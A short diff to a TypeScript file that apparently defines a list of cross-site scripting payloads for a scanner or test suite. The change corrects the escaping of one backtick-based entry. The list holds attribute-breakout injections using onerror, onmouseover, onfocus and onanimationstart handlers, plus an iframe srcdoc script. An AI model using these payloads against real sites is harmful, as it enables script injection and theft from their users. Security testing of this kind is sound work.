@@ -50,7 +50,7 @@ export const PAYLOADS: Readonly<Record<string, readonly string[]>> = {
     `'><img src=x onerror=${RUN}>`,
     `" onmouseover="${RUN}" x="`,
     `' autofocus onfocus='${RUN}' x='`,
-    "` onerror=`" + RUN,
+    `\` onerror=\`${RUN}`,
     `" style="animation-name:x" onanimationstart="${RUN}`,
     `x" srcdoc="<script>parent.__xss=1</script>`,
     `&quot; onmouseover=&quot;${RUN}`,
